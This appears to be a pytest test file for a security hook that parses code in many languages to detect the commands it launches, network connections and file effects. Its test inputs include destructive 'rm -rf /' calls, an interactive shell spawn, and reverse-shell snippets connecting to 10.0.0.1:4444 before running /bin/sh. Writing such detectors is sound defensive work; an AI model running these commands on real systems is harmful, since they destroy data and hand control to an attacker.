import pytest

from security_hooks.model.effect import EffectKind
from security_hooks.shell.inline.conventions import LANGUAGES, read_conventions
from security_hooks.shell.inline.reading import Inline
from security_hooks.shell.limits import Budget, ShellLimits


def read(language: str, code: str) -> Inline:
    return read_conventions(language, (code,), Budget(ShellLimits()))


def started(inline: Inline) -> list[str]:
    texts = ["".join([str(part) for part in text]) for text in inline.shell]
    return texts + [" ".join([str(part) for word in argv for part in word]) for argv in inline.argvs]


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [
        ("go", 'exec.Command("rm", "-rf", "/").Run()', ["rm -rf /"]),
        ("go", 'exec.CommandContext(ctx, "rm", "-rf", "/")', ["rm -rf /"]),
        ("go", 'name := "rm"\nexec.Command(name, "-rf", "/")', ["rm -rf /"]),
        ("go", "exec.Command(`rm`, `-rf`)", ["rm -rf"]),
        ("julia", "run(`rm -rf /`)", ["rm -rf /"]),
        ("rust", 'Command::new("sh")\n    .arg("-c")\n    .arg("rm x")\n    .status();', ["sh -c rm x"]),
        ("haskell", 'main = callProcess "rm" ["-rf", "/"]', ["rm -rf /"]),
        ("haskell", 'main = callCommand ("rm " ++ "-rf /")', ["rm -rf /"]),
        ("elixir", 'System.cmd("rm", ["-rf", "/"])', ["rm -rf /"]),
        ("erlang", 'os:cmd("rm -rf /").', ["rm -rf /"]),
        ("clojure", '(sh "rm" "-rf" "/")', ["rm -rf /"]),
        ("ocaml", 'let _ = Sys.command "rm -rf /"', ["rm -rf /"]),
        ("nim", 'discard execShellCmd("rm -rf /")', ["rm -rf /"]),
        ("swift", 'p.launchPath = "/bin/rm"\np.arguments = ["-rf", "/"]', ["/bin/rm -rf /"]),
        ("c", 'system("rm -rf /");', ["rm -rf /"]),
        ("csharp", 'Process.Start("rm -rf /");', ["rm -rf /"]),
        ("c", 'execl("/bin/rm", "rm", "-rf", "/", NULL);', ["/bin/rm -rf /"]),
        ("go", 'syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())', ["/bin/sh -i"]),
        ("racket", '(system "rm -rf /")', ["rm -rf /"]),
        ("c", 'int systems(void); print("system");', []),
    ],
)
def test_programs_are_found_by_their_usual_names(language: str, code: str, expected: list[str]) -> None:
    assert started(read(language, code)) == expected


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("go", 'c, _ := net.Dial("tcp", "10.0.0.1:4444")\ncmd := exec.Command("/bin/sh")'),
        ("julia", 's = connect("10.0.0.1", 4444)\nrun(`/bin/sh -i`)'),
        ("rust", 'let s = TcpStream::connect("10.0.0.1:4444");\nCommand::new("/bin/sh").spawn();'),
        ("erlang", 'gen_tcp:connect("10.0.0.1", 4444, []), os:cmd("/bin/sh -i").'),
        ("nim", 's.connect("10.0.0.1", Port(4444))\nexecCmd("/bin/sh")'),
    ],
)
def test_what_runs_beside_a_socket_is_run_by_the_other_side(language: str, code: str) -> None:
    inline = read(language, code)
    flows = [(inline.effects[a].kind, inline.effects[b].kind) for a, b in inline.flows]
    assert (EffectKind.CONNECTS, EffectKind.EXECUTES) in flows
    (connection,) = [effect for effect in inline.effects if effect.kind is EffectKind.CONNECTS]
    assert connection.target == ("10.0.0.1",)


@pytest.mark.parametrize(
    ("code", "flows"),
    [
        ('net.Listen("tcp", ":80")', False),
        ('net.Listen("tcp", ":80")\nexec.Command("sh")', True),
        ('http.Get("https://example.com")\nexec.Command("git", "status")', False),
    ],
)
def test_only_a_socket_that_stays_open_runs_what_is_run(code: str, flows: bool) -> None:
    assert bool(read("go", code).flows) is flows


def test_paths_have_the_effects_of_what_is_called() -> None:
    inline = read("rust", 'fs::remove_dir_all("/home/me"); fs::write("/etc/x", data); fs::remove_file(path);')
    assert [(e.kind, e.target, e.recursive) for e in inline.effects] == [
        (EffectKind.DELETES, ("/home/me",), True),
        (EffectKind.WRITES, ("/etc/x",), False),
    ]


def test_too_many_calls_are_over_budget() -> None:
    assert read("c", 'system("a");' * 300).over_budget


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_any_text_can_be_read(language: str) -> None:
    for code in ("", '"', "(((", '"""', "system(" * 50, "connect" + "(" * 2000):
        read(language, code)
